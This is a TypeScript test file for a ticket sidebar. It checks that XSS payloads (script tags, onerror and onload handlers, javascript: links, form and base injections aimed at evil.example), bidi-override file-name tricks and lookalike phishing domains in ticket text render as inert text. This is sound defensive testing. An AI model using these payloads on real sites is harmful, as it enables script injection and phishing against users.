// @vitest-environment happy-dom
import {screen} from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import {afterEach, expect, test, vi} from 'vitest';
import {readAddress} from '../../catalog/address';
import {match, stage} from './sidebar-stage';

afterEach(() => vi.unstubAllGlobals());

/** The sidebar on a ticket whose subject and only comment are `body`, with `word` of it as the sign, twice. */
const drawn = async (body: string, word: string) => {
  const start = body.indexOf(word);
  const signs = [1, 0].map(comment => {
    const where = {comment, side: 'customer', start, end: start + word.length} as const;
    return {text: word, kind: 'feature name', where};
  });
  const shown = await stage({
    ticket: {id: '4711', subject: body, tags: [], comments: [{author: 'customer', body}]},
    matches: [match('sast', 'likely', ...signs)],
  });
  await userEvent.click(screen.getByRole('button', {name: /list all signs/}));
  return shown.aside;
};

/** Elements of a kind that the sidebar itself never draws, and attributes that would run something. */
const planted = (aside: Element): string[] =>
  [...aside.querySelectorAll('*')]
    .filter(
      element =>
        element.matches('img, script, iframe, object, embed, link, form, base, meta, math, video, audio') ||
        [...element.attributes].some(
          ({name, value}) => /^on|^srcdoc$/.test(name) || /javascript:/i.test(value),
        ),
    )
    .map(element => element.outerHTML);

test.each([
  'SAST <img src=x onerror=alert(1)>',
  'SAST <script>alert(1)</script>',
  'SAST </style><script>alert(1)</script>',
  'SAST <iframe srcdoc="<script>alert(1)</script>">',
  'SAST <svg onload=alert(1)>',
  'SAST {{7*7}} <%= 7*7 %>',
  'SAST [click](javascript:alert(1))',
  'SAST <a href="javascript:alert(1)">x</a>',
  'SAST "><form action=//evil.example><input name=x>',
  'SAST <base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>',
])('F6 %j is shown as it stands, and makes no element', async body => {
  const aside = await drawn(body, 'SAST');
  expect(planted(aside)).toEqual([]);
  expect(aside.textContent).toContain(body.slice(0, 24));
});

test.each(['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u2069', '\u200f', '\u061c'])(
  'F5 %j turns nothing round outside of its line, and is seen',
  async sign => {
    const aside = await drawn(`SAST ${sign}fdp.exe`, 'SAST');
    const code = sign.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0');
    expect(aside.textContent).toContain(`U+${code}`);
    expect(aside.textContent).not.toContain(sign);
  },
);

test('F7 a channel, a label and links that the ticket names never become ours', async () => {
  const aside = await drawn(
    'SAST is down. Escalate in #sec-emergency-now (https://gitlab.slack.com.evil.example/C0) with ~group::evil ' +
      'or open https://docs.gitlab.com.evil.example/sast, mailto:sec@evil.example',
    'SAST',
  );
  const hrefs = [...aside.querySelectorAll('a[href]')].map(link => link.getAttribute('href') ?? '');
  expect(hrefs.length).toBeGreaterThan(3);
  expect(hrefs.filter(href => 'refused' in readAddress(href) || /evil|emergency/.test(href))).toEqual([]);
  const acting = [...aside.querySelectorAll('a, button, [data-row], .sp-label')].filter(
    element => element.closest('.sp-why, .sp-ledger') === null,
  );
  expect(acting.filter(({textContent}) => /evil|sec-emergency/.test(textContent ?? ''))).toEqual([]);
});
